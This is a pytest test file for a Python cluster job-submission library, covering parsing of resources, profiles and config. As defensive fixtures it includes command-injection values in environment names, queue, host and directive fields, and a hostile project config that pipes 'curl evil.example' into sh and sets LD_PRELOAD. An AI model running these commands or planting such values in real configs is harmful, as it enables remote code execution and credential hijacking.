"""Resource strings, profiles and decorator arguments: strict parsing and clear errors."""

from __future__ import annotations

import datetime

import pytest

from clustrix import ConfigError, Resources, cluster
from clustrix.profiles import resolve
from clustrix.resources import format_time, parse_memory, parse_time


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("512MB", 512 * 1024**2),
        ("1GB", 1024**3),
        ("1.5G", int(1.5 * 1024**3)),
        ("2GiB", 2 * 1024**3),
        ("100k", 100 * 1024),
        (1048576, 1048576),
        ("4096", 4096),
    ],
)
def test_memory_strings(text, expected):
    assert parse_memory(text) == expected


@pytest.mark.parametrize("bad", ["", "lots", "-1GB", "1.2.3G", "12 parsecs", 0, -5, True, 1.5, "0MB"])
def test_bad_memory_names_the_parameter_and_value(bad):
    with pytest.raises(ConfigError, match=r"memory=") as info:
        parse_memory(bad)
    assert repr(bad) in str(info.value)


@pytest.mark.parametrize(
    ("text", "seconds"),
    [
        ("01:00:00", 3600),
        ("00:05:00", 300),
        ("1-02:03:04", 93784),
        (30, 1800),
        ("90", 5400),
        (datetime.timedelta(minutes=2, seconds=30), 150),
    ],
)
def test_time_strings(text, seconds):
    assert parse_time(text) == seconds


@pytest.mark.parametrize("bad", ["1h", "00:61:00", "-01:00:00", "00:00:00", 0, -3, "soon", True])
def test_bad_time(bad):
    with pytest.raises(ConfigError, match=r"time="):
        parse_time(bad)


def test_format_time():
    assert format_time(93784) == "1-02:03:04"
    assert format_time(59) == "00:00:59"


def test_bad_resources_fail_at_decoration():
    with pytest.raises(ConfigError, match="memory='eight gigs'"):
        cluster(memory="eight gigs")(print)
    with pytest.raises(ConfigError, match="cores=0"):
        cluster(cores=0)(print)


def test_partition_is_queue():
    assert Resources.from_settings({"partition": "debug"}).queue == "debug"
    with pytest.raises(ConfigError, match="disagree"):
        Resources.from_settings({"partition": "debug", "queue": "long"})


def test_unknown_backend_lists_installed(local_profile):
    with pytest.raises(ConfigError, match=r"unknown backend 'nosuch'; installed: .*local"):
        resolve(None, {"backend": "nosuch"})


def test_unknown_profile_lists_known(local_profile):
    local_profile("alpha")
    with pytest.raises(ConfigError, match=r"unknown profile 'beta' \(known: alpha"):
        resolve("beta", {})


def test_unknown_key_lists_known_keys(local_profile):
    name = local_profile(partitoin="debug")
    with pytest.raises(ConfigError, match=r"unknown key\(s\) partitoin .* known keys: .*partition"):
        resolve(name, {})


def test_profile_chosen_by_environment_and_overridden_by_decorator(local_profile, monkeypatch):
    local_profile("envchosen", cores=2, cleanup="never")
    monkeypatch.setenv("CLUSTRIX_PROFILE", "envchosen")
    config, job = resolve(None, {"cores": 1})
    assert config.profile == "envchosen" and config.cleanup == "never"
    assert job["cores"] == 1


def test_bad_cluster_key_values(local_profile):
    with pytest.raises(ConfigError, match="cleanup='sometimes'"):
        resolve(local_profile(cleanup="sometimes"), {})


def test_malformed_toml_names_the_file(tmp_path, monkeypatch):
    bad = tmp_path / "bad.toml"
    bad.write_text("[profiles.x\nbackend = 1")
    monkeypatch.setenv("CLUSTRIX_CONFIG", str(bad))
    with pytest.raises(ConfigError, match=r"bad\.toml"):
        resolve("x", {})


def test_invalid_env_name_is_refused(local_profile):
    @cluster(profile=local_profile(), env={"BAD NAME; touch /tmp/x": "1"})
    def f():
        return 1

    with pytest.raises(ConfigError, match="not a valid environment variable name"):
        f()


@pytest.mark.parametrize(
    ("key", "value", "words"),
    [
        ("env", {"X": 1}, "env: X=1: values must be strings"),
        ("env", ["X=1"], "expected a table"),
        ("setup", "module load python", "expected a list of shell lines"),
        ("setup", ["ok", 3], "expected a list of shell lines"),
        ("python", 3.11, "python=3.11"),
        ("name", ["a"], "name=\\['a'\\]"),
        ("parallel", "no", "parallel='no': expected true or false"),
        ("queue", "debug\ntouch /tmp/x", "queue="),
        ("account", "a b", "account='a b'"),
        ("extra", "--qos=low", "extra='--qos=low': expected a list"),
        ("extra", ["--qos=low\n#SBATCH --wrap=x"], "each directive must be one non-empty line"),
        ("host", "login\nProxyCommand x", "host="),
        ("max_payload_bytes", 1.5, "max_payload_bytes=1.5"),
    ],
)
def test_bad_job_and_cluster_values_are_config_errors_naming_the_key(local_profile, key, value, words):
    with pytest.raises(ConfigError, match=words):
        cluster(profile=local_profile(), **{key: value})(lambda: 1)()


@pytest.mark.parametrize(
    ("content", "words"),
    [
        (b"profiles = 1\n", "profiles must be a table"),
        (b"default = 3\n", "default must be a profile's name"),
        (b'[profiles.x]\nbackend = "local"\nname = "\xff\xfe"\n', "codec can't decode"),
    ],
)
def test_malformed_config_files_name_the_file(tmp_path, monkeypatch, content, words):
    bad = tmp_path / "bad.toml"
    bad.write_bytes(content)
    monkeypatch.setenv("CLUSTRIX_CONFIG", str(bad))
    with pytest.raises(ConfigError, match=words) as caught:
        resolve(None, {})
    assert "bad.toml" in str(caught.value)


def _user_and_project(tmp_path, monkeypatch, user: str, project: str):
    monkeypatch.delenv("CLUSTRIX_CONFIG", raising=False)
    monkeypatch.delenv("CLUSTRIX_PROFILE", raising=False)
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "xdg"))
    (tmp_path / "xdg/clustrix").mkdir(parents=True)
    (tmp_path / "xdg/clustrix/config.toml").write_text(user)
    (tmp_path / "project").mkdir()
    (tmp_path / "project/clustrix.toml").write_text(project)
    monkeypatch.chdir(tmp_path / "project")


USER = '[profiles.lab]\nbackend = "local"\nworkdir = "/home/me/jobs"\ncores = 1\n'
PROJECT = '[profiles.lab]\nbackend = "ssh"\nhost = "evil.example"\nworkdir = "/tmp/theirs"\ncores = 2\n'


def test_a_project_file_cannot_redirect_a_users_profile(tmp_path, monkeypatch, capsys):
    from clustrix.cli import main

    _user_and_project(tmp_path, monkeypatch, USER, PROJECT)
    config, job = resolve("lab", {})
    assert (config.backend, config.host, config.workdir) == ("local", None, "/home/me/jobs")
    assert job["cores"] == 2, "what jobs ask for may come from the project"
    assert main(["profiles"]) == 0
    out = capsys.readouterr().out
    assert "xdg/clustrix/config.toml: backend, workdir" in out
    assert "project/clustrix.toml: cores" in out
    assert "ignored from the project file (trust_project_profiles): backend, host, workdir" in out


def test_the_user_may_trust_project_profiles(tmp_path, monkeypatch):
    from clustrix.config import load_files

    _user_and_project(tmp_path, monkeypatch, "trust_project_profiles = true\n" + USER, PROJECT)
    assert load_files().profiles["lab"]["host"] == "evil.example"


def test_only_the_user_file_can_grant_trust(tmp_path, monkeypatch):
    _user_and_project(tmp_path, monkeypatch, USER, "trust_project_profiles = true\n" + PROJECT)
    with pytest.raises(ConfigError, match=r"unknown top-level key.*trust_project_profiles"):
        resolve("lab", {})


HOSTILE_PROJECT = (
    'default = "theirs"\n'
    '[profiles.theirs]\nbackend = "ssh"\nhost = "evil.example"\npassword = "op://vault/item/field"\n'
    '[profiles.lab]\ncores = 2\nsetup = ["curl evil.example | sh"]\npython = "/tmp/their/python"\n'
    'env = { LD_PRELOAD = "/tmp/theirs.so" }\nextra = ["--wrap=evil"]\n'
)


def test_a_project_file_cannot_set_the_default_add_profiles_or_change_what_runs(tmp_path, monkeypatch, capsys):
    # Before: its default chose where undecorated calls, `clustrix check` and attach went, its own
    # profile got the user's ssh password and op:// reads, and setup/python/env/extra ran as the user.
    from clustrix.cli import main

    _user_and_project(tmp_path, monkeypatch, USER, HOSTILE_PROJECT)
    config, job = resolve(None, {})
    assert config.profile is None and config.backend == "local", "the project's default is not the user's"
    config, job = resolve("lab", {})
    assert (config.backend, job["cores"]) == ("local", 2), "what jobs ask for may still come from the project"
    assert not {"setup", "python", "env", "extra"} & set(job)
    with pytest.raises(ConfigError, match=r"profile 'theirs' is defined only in the project file .*may not add"):
        resolve("theirs", {})
    assert main(["profiles"]) == 0
    out = capsys.readouterr().out
    assert "ignored from the project file (trust_project_profiles): env, extra, python, setup" in out
    assert "theirs               ignored: a profile of the project file" in out
    assert "default = 'theirs' of" in out and "ignored (trust_project_profiles)" in out


def test_a_trusted_project_file_may_do_all_of_it(tmp_path, monkeypatch):
    _user_and_project(tmp_path, monkeypatch, "trust_project_profiles = true\n" + USER, HOSTILE_PROJECT)
    config, _ = resolve(None, {})
    assert (config.profile, config.host) == ("theirs", "evil.example")
    _, job = resolve("lab", {})
    assert job["python"] == "/tmp/their/python"
